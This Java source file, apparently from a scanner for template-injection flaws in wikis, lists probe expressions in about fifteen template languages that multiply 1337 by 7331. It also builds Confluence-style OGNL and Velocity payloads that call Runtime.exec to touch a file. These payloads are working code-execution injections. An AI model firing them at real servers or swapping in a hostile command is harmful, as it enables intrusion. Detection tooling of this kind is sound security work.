package org.watersmeet.attack;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.List;

/** Expressions of the languages that wikis have evaluated by mistake, and what they would give. */
final class Expressions {

    /** 1337 times 7331: nothing here says so by chance. */
    static final String PRODUCT = "9801547";

    /** Each as it would be written by its language. */
    static final List<String> ALL =
            List.of(
                    "${1337*7331}",
                    "#{1337*7331}",
                    "%{1337*7331}",
                    "*{1337*7331}",
                    "@{1337*7331}",
                    "$!{1337*7331}",
                    "{{1337*7331}}",
                    "${{1337*7331}}",
                    "<%= 1337*7331 %>",
                    "<#assign x=1337*7331>${x}",
                    "#set($x=1337*7331)$x",
                    "!{var x = 1337*7331;}${x}",
                    "[[${1337*7331}]]",
                    "\\u0027+{1337*7331}+\\u0027",
                    "'+(1337*7331)+'");

    private Expressions() {}

    /** What would make a file if it ran, in the three languages of Confluence's holes. */
    static List<String> making(Path file) {
        return List.of(
                "${@java.lang.Runtime@getRuntime().exec('touch " + file + "')}",
                "$i18n.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null)"
                        + ".exec('touch "
                        + file
                        + "')",
                "${Class.forName('java.lang.Runtime').getRuntime().exec('touch " + file + "')}");
    }

    static String encoded(String text) {
        return URLEncoder.encode(text, StandardCharsets.UTF_8).replace("+", "%20");
    }
}
